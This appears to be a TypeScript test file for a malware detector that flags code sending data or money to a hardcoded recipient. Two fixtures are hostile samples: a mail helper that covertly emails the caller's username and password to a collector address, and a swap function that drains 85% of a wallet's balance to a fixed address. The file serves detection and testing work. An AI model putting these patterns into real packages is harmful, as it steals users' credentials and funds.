import { loaded, testDetector } from "../../test/test-detector.ts";
import { carriedRecipient } from "./index.ts";

testDetector(carriedRecipient, {
  fires: {
    "a second letter with what was passed": [
      "strong",
      loaded(`const { createTransport } = require("nodemailer");
        exports.send = ({ to, user, pass }) => {
          createTransport({ auth: { user, pass } }).sendMail({ to: "box@collector.invalid", text: user + ":" + pass });
          return createTransport({ auth: { user, pass } }).sendMail({ to });
        };`),
    ],
    "a payment to somebody": [
      "strong",
      loaded(`const { Wallet } = require("ethers");
        exports.swap = async (key, provider) => {
          const wallet = new Wallet(key, provider);
          const all = await provider.getBalance(wallet.address);
          return wallet.sendTransaction({ to: "0x1111111111111111111111111111111111111111", value: (all * 85n) / 100n });
        };`),
    ],
  },
  silent: {
    "a letter to whom its caller names": loaded(`const { createTransport } = require("nodemailer");
      exports.send = ({ to, text }) => createTransport({}).sendMail({ to, text });`),
    "a call of a contract": loaded(
      `exports.approve = (wallet, data) => wallet.sendTransaction({ to: "0x1111111111111111111111111111111111111111", value: 0, data: data });`,
    ),
    "a payment to whom its caller names": loaded(
      `exports.pay = (wallet, to, value) => wallet.sendTransaction({ to, value: value });`,
    ),
  },
});
